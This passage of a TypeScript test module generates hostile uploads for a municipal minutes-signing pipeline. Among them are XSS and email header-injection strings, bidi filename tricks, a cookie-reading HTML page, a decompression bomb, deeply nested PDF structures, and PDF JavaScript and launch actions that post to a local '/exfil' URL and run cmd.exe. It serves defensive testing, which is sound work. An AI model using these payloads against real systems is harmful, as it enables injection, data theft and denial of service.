// A corpus of hostile uploads, generated on demand so the repository holds no
// binaries: files that are not PDFs, PDFs that are broken, locked or empty of
// text, PDFs built to exhaust memory, stack or time, and valid minutes whose
// content is hostile (scripts, actions, header injection, bidi tricks). Each
// comes with the outcome the pipeline must reach. Files are written to a
// temporary folder; large ones are streamed so that no generator holds more
// than a few megabytes at a time.
import { execFileSync } from 'node:child_process';
import { closeSync, mkdtempSync, openSync, statSync, writeFileSync, writeSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import type { BodyDirectory } from '../../shared/domain/records';

/** A state a file may end in, and the reason code that explains it (null: no reason, the minutes went on). */
export interface Outcome {
  status: string;
  code: string | null;
}

export interface HostileFile {
  kind: string;
  what: string;
  path: string;
  size: number;
  expect: readonly Outcome[];
}

export interface Corpus {
  dir: string;
  files: HostileFile[];
  /** Files that exist only if something executed an action embedded in a PDF. */
  sentinels: string[];
  cleanup(): Promise<void>;
}

const REJECTED = (...codes: string[]): Outcome[] => codes.map((code) => ({ status: 'REJECTED', code }));
const ATTENTION = (...codes: string[]): Outcome[] => codes.map((code) => ({ status: 'NEEDS_ATTENTION', code }));
/** Valid minutes: routed to the signers the directory names. */
const ROUTED: Outcome[] = [{ status: 'ROUTED', code: null }];

// ---------------------------------------------------------------------------
// The people and the body the valid-but-hostile minutes name.

/** The body all hostile files are uploaded for (drafts/<slug>/<kind>.pdf). */
export const HOSTILE_SLUG = 'fientliga-filer';

/**
 * Directory names that carry the attack; the minutes name the plain person ("Anna Berglund"), matched on first and last name.
 * A directory refuses control characters (CR/LF included: test/integration/requests.test.ts), so the header injection
 * is tried with everything else a header parser might take for a new field; CR/LF still come in through the minutes' text.
 */
export const HOSTILE_NAMES = {
  chair: `Anna "><script>alert('ordf')</script>' Bcc: x@example.com X-Injected: 1 Berglund`,
  adjuster: `Erik \u202Eexe.txt\u202C\u200B\u200D <img src=x onerror=alert(1)> Åström`,
  bidiChair: `Karin \u202Egnp.exe\u202C Ekström`,
  bidiAdjuster: `Per\u200B \u2066\u200F"Olle"\u2069\u200D Olsson`,
  secretary: `Sara <b>Lindqvist</b> "sekr" Bcc: z@example.com`,
} as const;

export function hostileDirectory(): BodyDirectory {
  return {
    slug: HOSTILE_SLUG,
    name: `Kommunstyrelsen <script>alert('organ')</script> "Exempelby" Bcc: y@example.com`,
    organisation: 'Exempelby kommun',
    secretary: { name: HOSTILE_NAMES.secretary, email: 'sekreterare@example.se' },
    signingOrder: 'parallel',
    deadlineDays: 14,
    reminderDays: [3, 7, 12],
    members: [
      { name: HOSTILE_NAMES.chair, email: 'anna.berglund@example.se', role: 'ordförande' },
      { name: HOSTILE_NAMES.adjuster, email: 'erik.astrom@example.se', role: 'ledamot' },
      { name: HOSTILE_NAMES.bidiChair, email: 'karin.ekstrom@example.se', role: 'ordförande' },
      { name: HOSTILE_NAMES.bidiAdjuster, email: 'per.olsson@example.se', role: 'ledamot' },
    ],
  };
}

// ---------------------------------------------------------------------------
// Minutes as text ("# title", "## heading", tab = column, blank = paragraph).

interface MinutesText {
  title: string;
  date: string;
  chair: string;
  adjuster: string;
  secretary: string;
  item4: { title: string; text: string; decision: string };
  /** Extra lines under "Justeras" after the names. */
  closing?: string;
}

function minutesSource(m: MinutesText): string {
  return `# ${m.title} den ${m.date}
Tid: Kl. 13.00–15.30
Plats: Kommunhuset, sammanträdesrum Ekan

## § 1. Sammanträdet öppnas
Ordförande ${m.chair} öppnar sammanträdet och hälsar alla välkomna.

## § 2. Närvarande
Beslutande:
${m.chair} (S) ordförande\tJohan Pettersson (M) vice ordförande
${m.adjuster} (C)\tMaria Öberg-Nilsson (V)
Tjänstepersoner:
${m.secretary}, sekreterare

## § 3. Val av justerare
Beslut
att jämte ordföranden justera protokollet väljs ${m.adjuster}.

## § 4. ${m.item4.title}
${m.item4.text}
Beslut
att ${m.item4.decision}

## § 5. Sammanträdet avslutas
Ordföranden tackar för visat intresse och avslutar sammanträdet.

Vid protokollet

${m.secretary}

Justeras

${m.chair}

${m.adjuster}${m.closing ? `\n\n${m.closing}` : ''}
`;
}

const PLAIN_ITEM = {
  title: 'Budget 2027 för kultur- och fritidsnämnden',
  text: 'Kultur- och fritidsnämnden har lämnat förslag till budget för 2027 med en ram om 48,2 miljoner kronor.',
  decision: 'godkänna kultur- och fritidsnämndens budget för 2027.',
};

function plainMinutes(date: string): string {
  return minutesSource({ title: 'Kommunstyrelsen i Exempelby', date, chair: 'Anna Berglund', adjuster: 'Erik Åström', secretary: 'Sara Lindqvist', item4: PLAIN_ITEM });
}

/** What the injection minutes' text layer says where it ends up in the body name and an item title. */
export const INJECTION_TEXT = {
  bodyName: `Kommunstyrelsen i "Exempelby" <script>alert('organ')</script>`,
  itemTitle: `Budget <script>alert("titel")</script> & 'citat' "><img src=x onerror=alert(1)>`,
} as const;

/** Text an injection would need in a header, a page or a mail: markup, quotes, CR/LF, a fake header. */
function injectionMinutes(date: string): string {
  return minutesSource({
    title: INJECTION_TEXT.bodyName,
    date,
    chair: 'Anna Berglund',
    adjuster: 'Erik Åström',
    secretary: 'Sara Lindqvist',
    item4: {
      title: INJECTION_TEXT.itemTitle,
      text: `Förslaget från Anna Berglund\r\nBcc: x@example.com\r\nSubject: falskt\r\n\r\n<html><body onload=alert(1)> och </textarea></title><svg onload=alert(2)> samt \`mall\` och \${x}.`,
      decision: `godkänna "förslaget" <b>utan</b> ändring\r\nBcc: x@example.com; to: y@example.com`,
    },
    closing: 'Anna Berglund\r\nBcc: x@example.com',
  });
}

/** Right-to-left overrides, isolates and zero-width characters around and inside words. */
function bidiMinutes(date: string): string {
  return minutesSource({
    title: 'Kommunstyrelsen i Exempelby',
    date,
    chair: 'Karin Ekström',
    adjuster: 'Per Olsson',
    secretary: 'Sara Lindqvist',
    item4: {
      title: 'Bilaga \u202Efdp.exe\u202C och noll\u200Bbredd',
      text: 'Underlaget \u2067\u202Eläs baklänges\u2069 finns i \u200Fbilagan\u200E med\u200Dfogade\uFEFF filer.',
      decision: 'godkänna \u202Ebilagan\u202C.',
    },
  });
}

// ---------------------------------------------------------------------------
// A hand-written PDF: objects appended to a file, offsets counted, xref at the end.

class PdfWriter {
  private readonly fd: number;
  private position = 0;
  private readonly offsets = new Map<number, number>();
  private pending: Buffer[] = [];
  private pendingBytes = 0;

  constructor(
    readonly path: string,
    version = '1.7',
  ) {
    this.fd = openSync(path, 'w');
    this.raw(`%PDF-${version}\n%\u00e2\u00e3\u00cf\u00d3\n`);
  }

  raw(data: string | Uint8Array): void {
    const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : Buffer.from(data.buffer, data.byteOffset, data.byteLength);
    this.pending.push(bytes);
    this.pendingBytes += bytes.length;
    this.position += bytes.length;
    if (this.pendingBytes >= 1 << 20) this.flush();
  }

  private flush(): void {
    if (this.pendingBytes) writeSync(this.fd, this.pending.length === 1 ? this.pending[0]! : Buffer.concat(this.pending));
    this.pending = [];
    this.pendingBytes = 0;
  }

  private end(): number {
    this.flush();
    closeSync(this.fd);
    return this.position;
  }

  get offset(): number {
    return this.position;
  }

  /** Where each object written so far starts. */
  entries(): [number, number][] {
    return [...this.offsets];
  }

  object(num: number, body: string): void {
    this.offsets.set(num, this.position);
    this.raw(`${num} 0 obj\n${body}\nendobj\n`);
  }

  /** A stream object; `chunks` may be a generator so that huge data is never held at once. */
  stream(num: number, dict: string, chunks: Uint8Array | Iterable<Uint8Array>, length?: number): void {
    const parts = chunks instanceof Uint8Array ? [chunks] : chunks;
    const size = length ?? (chunks as Uint8Array).length;
    this.offsets.set(num, this.position);
    this.raw(`${num} 0 obj\n<< ${dict} /Length ${size} >>\nstream\n`);
    let written = 0;
    for (const part of parts) {
      this.raw(part);
      written += part.length;
    }
    if (written !== size) throw new Error(`stream ${num}: wrote ${written} bytes, declared ${size}`);
    this.raw('\nendstream\nendobj\n');
  }

  /** A classic cross-reference table; `shift` moves every offset (a broken xref). Returns the file size. */
  finish(trailer: string, options: { shift?: number; startxrefShift?: number } = {}): number {
    const start = this.position;
    let max = 0;
    for (const n of this.offsets.keys()) max = Math.max(max, n);
    const rows = ['0000000000 65535 f \n'];
    for (let n = 1; n <= max; n++) {
      const at = this.offsets.get(n);
      rows.push(at === undefined ? '0000000000 65535 f \n' : `${String(at + (options.shift ?? 0)).padStart(10, '0')} 00000 n \n`);
    }
    this.raw(`xref\n0 ${max + 1}\n`);
    for (let i = 0; i < rows.length; i += 10_000) this.raw(rows.slice(i, i + 10_000).join(''));
    this.raw(`trailer\n<< /Size ${max + 1} ${trailer} >>\nstartxref\n${start + (options.startxrefShift ?? 0)}\n%%EOF\n`);
    return this.end();
  }

  /** Ends the file after an xref stream written by the caller. */
  close(startxref: number): number {
    this.raw(`startxref\n${startxref}\n%%EOF\n`);
    return this.end();
  }
}

// Text in the standard fonts, with a ToUnicode map that also maps a few byte
// codes to control, bidi and zero-width characters, so the text layer itself
// carries CR/LF, U+202E and U+200B as an attacker would put them there.
const SPECIAL: Record<string, number> = {
  '\r': 0x0d,
  '\n': 0x0a,
  '\u202E': 0x01,
  '\u200B': 0x02,
  '\u200D': 0x03,
  '\u202C': 0x04,
  '\u2067': 0x05,
  '\u2069': 0x06,
  '\u200F': 0x07,
  '\u200E': 0x08,
  '\uFEFF': 0x0b,
  '\u2066': 0x0c,
  '–': 0x96,
  '—': 0x97,
  '’': 0x92,
  '“': 0x93,
  '”': 0x94,
  '•': 0x95,
};

const TO_UNICODE = (() => {
  const hex = (n: number, w: number) => n.toString(16).toUpperCase().padStart(w, '0');
  const chars = Object.entries(SPECIAL).map(([c, code]) => `<${hex(code, 2)}> <${hex(c.charCodeAt(0), 4)}>`);
  return `/CIDInit /ProcSet findresource begin 12 dict begin begincmap
/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def
/CMapName /Justera-Hostile def /CMapType 2 def
1 begincodespacerange <00> <FF> endcodespacerange
${chars.length} beginbfchar
${chars.join('\n')}
endbfchar
2 beginbfrange
<20> <7E> <0020>
<A0> <FF> <00A0>
endbfrange
endcmap CMapName currentdict /CMap defineresource pop end end`;
})();

/** A PDF literal string: Latin-1 for ordinary text, the special codes for the rest, all else octal-escaped. */
function pdfText(text: string): string {
  let out = '(';
  for (const c of text) {
    const code = SPECIAL[c] ?? c.charCodeAt(0);
    if (code > 0xff || c.length > 1) {
      out += '?';
      continue;
    }
    if (c === '(' || c === ')' || c === '\\') out += `\\${c}`;
    else if (code < 0x20 || code > 0x7e) out += `\\${code.toString(8).padStart(3, '0')}`;
    else out += c;
  }
  return `${out})`;
}

interface Run {
  x: number;
  y: number;
  size: number;
  bold: boolean;
  text: string;
}

const A4 = { width: 595.28, height: 841.89, margin: 56 };

function wrap(text: string, size: number): string[] {
  const perLine = Math.floor((A4.width - 2 * A4.margin) / (size * 0.52));
  const lines: string[] = [];
  let line = '';
  for (const word of text.split(/ +/)) {
    const next = line ? `${line} ${word}` : word;
    if (next.length > perLine && line) {
      lines.push(line);
      line = word;
    } else line = next;
  }
  if (line) lines.push(line);
  return lines;
}

/** Lays out the markup of minutesSource on A4 pages, the way samples/render.ts does. */
function layoutText(source: string): Run[][] {
  const pages: Run[][] = [[]];
  let y = A4.height - A4.margin - 20;
  let gap = 0;
  const width = A4.width - 2 * A4.margin;
  const draw = (text: string, size: number, bold: boolean, before: number) => {
    const columns = text.split('\t');
    y -= before;
    for (const line of columns.length > 1 ? [text] : wrap(text, size)) {
      if (y < A4.margin + 30) {
        pages.push([]);
        y = A4.height - A4.margin - 20;
      }
      const page = pages.at(-1)!;
      if (columns.length > 1) columns.forEach((col, i) => page.push({ x: A4.margin + i * (width / 2), y, size, bold, text: col }));
      else page.push({ x: A4.margin, y, size, bold, text: line });
      y -= size * 1.35;
    }
  };
  for (const raw of source.split('\n')) {
    if (!raw.trim()) {
      gap = 8;
      continue;
    }
    if (raw.startsWith('## ')) draw(raw.slice(3), 13, true, 14);
    else if (raw.startsWith('# ')) draw(raw.slice(2), 16, true, 0);
    else draw(raw, 11, false, gap);
    gap = 0;
  }
  return pages;
}

function contentOf(runs: Run[]): string {
  return runs.map((r) => `BT /${r.bold ? 'F2' : 'F1'} ${r.size} Tf ${r.x.toFixed(2)} ${r.y.toFixed(2)} Td ${pdfText(r.text)} Tj ET`).join('\n');
}

const FONT = (base: string, toUnicode: number) => `<< /Type /Font /Subtype /Type1 /BaseFont /${base} /Encoding /WinAnsiEncoding /ToUnicode ${toUnicode} 0 R >>`;
const MEDIABOX = `[0 0 ${A4.width} ${A4.height}]`;

/** Object numbers every hand-written text PDF uses: 1 catalog, 2 pages, 3–4 fonts, 5 ToUnicode, 6 resources. */
function writeFonts(w: PdfWriter): void {
  w.object(3, FONT('Helvetica', 5));
  w.object(4, FONT('Helvetica-Bold', 5));
  w.stream(5, '', Buffer.from(TO_UNICODE, 'latin1'));
  w.object(6, '<< /Font << /F1 3 0 R /F2 4 0 R >> >>');
}

/**
 * A text PDF from markup. `pageExtra` is added to every page dictionary,
 * `catalogExtra` to the catalog, and `more` may write further objects from
 * `firstFree` on.
 */
function writeTextPdf(
  path: string,
  source: string,
  options: { pageExtra?: string; catalogExtra?: string; more?: (w: PdfWriter, firstFree: number) => void; shift?: number; startxrefShift?: number } = {},
): number {
  const pages = layoutText(source);
  const w = new PdfWriter(path);
  const first = 7;
  const kids = pages.map((_, i) => `${first + 2 * i} 0 R`).join(' ');
  w.object(1, `<< /Type /Catalog /Pages 2 0 R ${options.catalogExtra ?? ''} >>`);
  w.object(2, `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`);
  writeFonts(w);
  pages.forEach((runs, i) => {
    const num = first + 2 * i;
    w.object(num, `<< /Type /Page /Parent 2 0 R /MediaBox ${MEDIABOX} /Resources 6 0 R /Contents ${num + 1} 0 R ${options.pageExtra ?? ''} >>`);
    w.stream(num + 1, '', Buffer.from(contentOf(runs), 'latin1'));
  });
  options.more?.(w, first + 2 * pages.length);
  return w.finish('/Root 1 0 R', { shift: options.shift, startxrefShift: options.startxrefShift });
}

/** Enough text to be more than a scan, but no numbered items. */
const NOT_MINUTES = `# Testfil för fientlig PDF
Den här filen innehåller lite vanlig löptext så att textlagret inte är tomt, men inga numrerade paragrafer.
Den är byggd för att pröva tolkens gränser för minne, stack och tid.`;

// ---------------------------------------------------------------------------
// The kinds.

type Generator = (path: string, dir: string) => Promise<void> | void;

interface Kind {
  kind: string;
  what: string;
  expect: readonly Outcome[];
  make: Generator;
}

async function pdfLibMinutes(source: string): Promise<Uint8Array> {
  const { renderMinutes } = await import('../../samples/render');
  return renderMinutes(source);
}

/** A deterministic byte sequence (xorshift), so a failure can be reproduced. */
function pseudoRandom(length: number, seed = 0x9e3779b9): Buffer {
  const out = Buffer.alloc(length);
  let x = seed >>> 0;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

/** A real ZIP archive (one stored entry), as a .docx renamed to .pdf would be. */
function zipArchive(): Buffer {
  const name = Buffer.from('word/document.xml');
  const data = Buffer.from('<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>§ 1. Sammanträdet öppnas</w:t></w:r></w:p></w:body></w:document>');
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(name.length, 28);
  const localSize = local.length + name.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(localSize, 16);
  return Buffer.concat([local, name, data, central, name, end]);
}

let zeroBlock: Buffer | undefined;

/**
 * A zlib stream that inflates to `megabytes` MB of zeros, built from one
 * independently decodable block (a full flush resets the dictionary) repeated:
 * about 1 KB per MB, and only one block ever in memory.
 */
function* zerosBomb(megabytes: number): IterableIterator<Uint8Array> {
  zeroBlock ??= deflateRawSync(Buffer.alloc(1 << 20), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const block = zeroBlock;
  yield Buffer.from([0x78, 0xda]);
  for (let i = 0; i < megabytes; i++) yield block;
  yield deflateRawSync(Buffer.alloc(0)); // the final, empty block
  // Adler-32 of n zero bytes: a stays 1, b adds a once per byte.
  const adler = Buffer.alloc(4);
  adler.writeUInt16BE((megabytes * (1 << 20)) % 65521, 0);
  adler.writeUInt16BE(1, 2);
  yield adler;
}

export function bombSize(megabytes: number): number {
  let size = 0;
  for (const part of zerosBomb(megabytes)) size += part.length;
  return size;
}

/** Appends an incremental update holding one unreferenced stream of `bytes` padding, written in 1 MB pieces. */
function padPdf(path: string, pdf: Uint8Array, bytes: number): void {
  const tail = Buffer.from(pdf.subarray(Math.max(0, pdf.length - 2048))).toString('latin1');
  const prev = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(tail)?.[1]);
  const root = /\/Root\s+(\d+\s+\d+\s+R)/.exec(tail)?.[1];
  const size = Number(/\/Size\s+(\d+)/.exec(tail)?.[1]);
  if (!prev || !root || !size) throw new Error('padPdf: not a PDF with a classic trailer');
  const fd = openSync(path, 'w');
  let at = 0;
  const put = (data: string | Uint8Array) => {
    const b = typeof data === 'string' ? Buffer.from(data, 'latin1') : data;
    writeSync(fd, b);
    at += b.length;
  };
  put(pdf);
  put('\n');
  const objectAt = at;
  put(`${size} 0 obj\n<< /Length ${bytes} >>\nstream\n`);
  const line = '% Utfyllnad: den här strömmen finns bara för att göra filen stor. '.padEnd(79, '.') + '\n';
  const piece = Buffer.from(line.repeat(Math.floor((1 << 20) / line.length)), 'latin1');
  let left = bytes;
  while (left > 0) {
    const n = Math.min(left, piece.length);
    put(n === piece.length ? piece : piece.subarray(0, n));
    left -= n;
  }
  put('\nendstream\nendobj\n');
  const xref = at;
  put(`xref\n0 1\n0000000000 65535 f \n${size} 1\n${String(objectAt).padStart(10, '0')} 00000 n \n`);
  put(`trailer\n<< /Size ${size + 1} /Root ${root} /Prev ${prev} >>\nstartxref\n${xref}\n%%EOF\n`);
  closeSync(fd);
}

/** pdf-lib minutes with JavaScript and launch actions wherever a viewer would run them. */
async function actionMinutes(source: string, dir: string): Promise<Uint8Array> {
  const doc = await PDFDocument.load(await pdfLibMinutes(source));
  const ctx = doc.context;
  const marker = join(dir, 'javascript-ran');
  const launched = join(dir, 'launch-ran');
  const script = join(dir, 'launch.sh');
  writeFileSync(script, `#!/bin/sh\ntouch '${launched}'\n`, { mode: 0o755 });
  const js = (code: string) => ctx.register(ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) }));
  const payload = `try { require('fs').writeFileSync(${JSON.stringify(marker)}, 'ran'); } catch (e) {} try { app.alert('ran'); this.submitForm('http://127.0.0.1:9/exfil'); app.launchURL('http://127.0.0.1:9/'); } catch (e) {}`;
  const launch = ctx.register(
    ctx.obj({ Type: 'Action', S: 'Launch', F: PDFString.of(script), NewWindow: true, Win: { F: PDFString.of('cmd.exe'), P: PDFString.of(`/c echo ran > ${launched}`), O: PDFString.of('open') } }),
  );
  doc.catalog.set(PDFName.of('OpenAction'), js(payload));
  doc.catalog.set(PDFName.of('AA'), ctx.obj({ WC: js(payload), WS: js(payload), DP: launch }));
  doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: ctx.obj({ Names: [PDFString.of('init'), js(payload)] }) }));
  for (const page of doc.getPages()) {
    page.node.set(PDFName.of('AA'), ctx.obj({ O: launch, C: js(payload) }));
    const link = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], Border: [0, 0, 0], A: launch }));
    page.node.set(PDFName.of('Annots'), ctx.obj([link]));
  }
  return doc.save({ useObjectStreams: false });
}

/** Breaks a classic xref: every offset off by a few bytes, startxref pointing into the middle of it. */
function breakXref(pdf: Uint8Array): Buffer {
  const text = Buffer.from(pdf).toString('latin1');
  const at = text.lastIndexOf('\nxref\n') + 1;
  const end = text.indexOf('trailer', at);
  const table = text.slice(at, end).replace(/^(\d{10}) (\d{5}) n/gm, (_, off: string, gen: string) => `${String(Number(off) + 7).padStart(10, '0')} ${gen} n`);
  const tail = text.slice(end).replace(/startxref\s+(\d+)/, (_, n: string) => `startxref\n${Number(n) + 11}`);
  return Buffer.from(text.slice(0, at) + table + tail, 'latin1');
}

/** An object stream of `count` objects (the catalog, the page tree and the page among them), found through an xref stream. */
function writeObjectStreamPdf(path: string, count: number): void {
  const w = new PdfWriter(path);
  writeFonts(w); // 3–6
  const content = Buffer.from(contentOf(layoutText(NOT_MINUTES)[0]!), 'latin1');
  w.stream(7, '', content);
  // Objects 1, 2, 8 (the page) and 10 … count+9 (filler) live in object stream 9.
  const members: [number, string][] = [
    [1, '<< /Type /Catalog /Pages 2 0 R >>'],
    [2, '<< /Type /Pages /Kids [8 0 R] /Count 1 >>'],
    [8, `<< /Type /Page /Parent 2 0 R /MediaBox ${MEDIABOX} /Resources 6 0 R /Contents 7 0 R >>`],
  ];
  for (let i = 0; i < count; i++) members.push([10 + i, `[${i}]`]);
  // Offsets and bodies written straight into two buffers: millions of small strings joined would take seconds.
  const pairs = Buffer.alloc(members.length * 20);
  const bodies = Buffer.alloc(members.length * 12 + 1024);
  let p = 0;
  let b = 0;
  for (const [num, body] of members) {
    p += pairs.write(`${num} ${b} `, p, 'latin1');
    b += bodies.write(`${body}\n`, b, 'latin1');
  }
  pairs[p - 1] = 0x0a;
  const header = pairs.subarray(0, p);
  const data = deflateSync(Buffer.concat([header, bodies.subarray(0, b)]), { level: 1 });
  w.stream(9, `/Type /ObjStm /N ${members.length} /First ${header.length} /Filter /FlateDecode`, data);
  // The xref stream (object count+10): type 1 for 3–7 and 9, type 2 for the members.
  const xrefNum = count + 10;
  const size = xrefNum + 1;
  const rows = Buffer.alloc(size * 8);
  const row = (n: number, type: number, field2: number, field3: number) => {
    rows.writeUInt8(type, n * 8);
    rows.writeUIntBE(field2, n * 8 + 1, 4);
    rows.writeUIntBE(field3, n * 8 + 5, 3);
  };
  row(0, 0, 0, 0xffffff);
  members.forEach(([num], index) => row(num, 2, 9, index));
  for (const [num, at] of w.entries()) row(num, 1, at, 0);
  const xrefAt = w.offset;
  row(xrefNum, 1, xrefAt, 0);
  w.stream(xrefNum, `/Type /XRef /Size ${size} /W [1 4 3] /Root 1 0 R /Filter /FlateDecode`, deflateSync(rows, { level: 1 }));
  w.close(xrefAt);
}

const KINDS: Kind[] = [
  { kind: 'empty', what: '0 bytes', expect: REJECTED('EMPTY'), make: (p) => writeFileSync(p, '') },
  {
    kind: 'truncated',
    what: 'valid minutes cut after 55 % of the bytes',
    expect: ATTENTION('CORRUPT', 'NO_TEXT', 'NO_ITEMS'),
    make: async (p) => {
      const pdf = await pdfLibMinutes(plainMinutes('9 november 2026'));
      writeFileSync(p, pdf.subarray(0, Math.floor(pdf.length * 0.55)));
    },
  },
  { kind: 'wrong-magic', what: '64 KB of pseudo-random bytes', expect: REJECTED('NOT_PDF'), make: (p) => writeFileSync(p, pseudoRandom(64 * 1024)) },
  { kind: 'zip', what: 'a ZIP archive (as a .docx) named .pdf', expect: REJECTED('NOT_PDF'), make: (p) => writeFileSync(p, zipArchive()) },
  {
    kind: 'html',
    what: 'an HTML page with scripts named .pdf',
    expect: REJECTED('NOT_PDF'),
    make: (p) =>
      writeFileSync(p, `<!DOCTYPE html>\n<html><head><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><script>fetch('/admin/bodies').then(r=>r.text()).then(alert)</script></head><body onload="alert(document.cookie)"><h1>§ 1. Sammanträdet öppnas</h1></body></html>\n`),
  },
  {
    kind: 'encrypted',
    what: 'AES-256 with a user password (qpdf)',
    expect: REJECTED('ENCRYPTED'),
    make: async (p, dir) => {
      const plain = join(dir, 'plain-for-qpdf.pdf');
      writeFileSync(plain, await pdfLibMinutes(plainMinutes('9 november 2026')));
      qpdf(['--encrypt', 'hemligt', 'agare', '256', '--', plain, p]);
    },
  },
  {
    kind: 'restricted',
    what: 'empty user password, owner restrictions (qpdf)',
    expect: REJECTED('ENCRYPTED'),
    make: async (p, dir) => {
      const plain = join(dir, 'plain-for-qpdf-2.pdf');
      writeFileSync(plain, await pdfLibMinutes(plainMinutes('9 november 2026')));
      qpdf(['--encrypt', '', 'agare', '256', '--print=none', '--modify=none', '--extract=n', '--', plain, p]);
    },
  },
  {
    kind: 'image-only',
    what: 'one page that is a grey image of "text" (a scan)',
    expect: ATTENTION('NO_TEXT'),
    make: (p) => {
      const width = 600;
      const height = 800;
      const pixels = Buffer.alloc(width * height, 0xff);
      for (let y = 60; y < height - 60; y += 24) for (let x = 60; x < width - 60; x++) if ((x >> 3) % 5 !== 0) pixels.fill(0x20, y * width + x, y * width + x + 1);
      const w = new PdfWriter(p);
      w.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
      w.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
      w.object(3, `<< /Type /Page /Parent 2 0 R /MediaBox ${MEDIABOX} /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>`);
      w.stream(4, '', Buffer.from('q 483 0 0 644 56 120 cm /Im1 Do Q', 'latin1'));
      w.stream(5, `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode`, deflateSync(pixels));
      w.finish('/Root 1 0 R');
    },
  },
  {
    kind: 'vector-only',
    what: 'glyph-like strokes and curves, no text operators',
    expect: ATTENTION('NO_TEXT'),
    make: (p) => {
      const ops: string[] = ['0.1 g'];
      for (let row = 0; row < 40; row++)
        for (let col = 0; col < 60; col++) {
          const x = 56 + col * 8;
          const y = 780 - row * 18;
          ops.push(col % 7 === 6 ? '' : `${x} ${y} m ${x + 2} ${y + 9} ${x + 5} ${y + 9} ${x + 6} ${y} c ${x + 1} ${y + 4} 4 1 re f`);
        }
      const w = new PdfWriter(p);
      w.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
      w.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
      w.object(3, `<< /Type /Page /Parent 2 0 R /MediaBox ${MEDIABOX} /Contents 4 0 R >>`);
      w.stream(4, '/Filter /FlateDecode', deflateSync(Buffer.from(ops.join('\n'), 'latin1')));
      w.finish('/Root 1 0 R');
    },
  },
  {
    kind: 'pages-1200',
    what: '1,200 pages sharing one content stream (limit 500)',
    expect: REJECTED('TOO_MANY_PAGES'),
    make: (p) => {
      const count = 1200;
      const w = new PdfWriter(p);
      w.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
      w.object(2, `<< /Type /Pages /Count ${count} /Kids [${Array.from({ length: count }, (_, i) => `${10 + i} 0 R`).join(' ')}] >>`);
      writeFonts(w);
      w.stream(7, '', Buffer.from(contentOf(layoutText(plainMinutes('9 november 2026'))[0]!), 'latin1'));
      for (let i = 0; i < count; i++) w.object(10 + i, `<< /Type /Page /Parent 2 0 R /MediaBox ${MEDIABOX} /Resources 6 0 R /Contents 7 0 R >>`);
      w.finish('/Root 1 0 R');
    },
  },
  {
    kind: 'page-tree-loop',
    what: 'a page tree whose Kids contain itself, /Count 1,000,000',
    expect: [...ATTENTION('CORRUPT'), ...REJECTED('TOO_MANY_PAGES')],
    make: (p) =>
      void writeTextPdf(p, NOT_MINUTES, {
        more: (w, n) => {
          // A second page tree, referenced from the first page, that loops; and the root's Count lies.
          w.object(n, `<< /Type /Pages /Kids [${n} 0 R 2 0 R ${n} 0 R] /Count 1000000 /Parent ${n} 0 R >>`);
          w.object(2, `<< /Type /Pages /Kids [7 0 R ${n} 0 R 2 0 R] /Count 1000000 >>`);
        },
      }),
  },
  {
    kind: 'nested-arrays',
    what: 'an array nested 100,000 levels deep in the page dictionary',
    expect: ATTENTION('CORRUPT', 'NO_ITEMS'),
    make: (p) => void writeTextPdf(p, NOT_MINUTES, { pageExtra: `/Hostile ${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
  },
  {
    kind: 'nested-dicts',
    what: 'dictionaries nested 50,000 levels deep in the catalog and the resources',
    expect: ATTENTION('CORRUPT', 'NO_ITEMS'),
    make: (p) => {
      const deep = `${'<< /A '.repeat(50_000)}1${' >>'.repeat(50_000)}`;
      void writeTextPdf(p, NOT_MINUTES, { catalogExtra: `/Hostile ${deep}`, pageExtra: `/Hostile ${deep}` });
    },
  },
  {
    kind: 'many-objects',
    what: '400,000 indirect objects: the page content split into as many streams',
    // pdf.js takes time quadratic in the content streams of a page: unchecked, this outlasts the function's timeout.
    expect: [...REJECTED('TOO_LARGE'), ...ATTENTION('NO_ITEMS')],
    make: (p) => {
      const count = 400_000;
      const w = new PdfWriter(p);
      w.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
      w.object(2, '<< /Type /Pages /Kids [7 0 R] /Count 1 >>');
      writeFonts(w);
      const refs = Array.from({ length: count }, (_, i) => `${8 + i} 0 R`).join(' ');
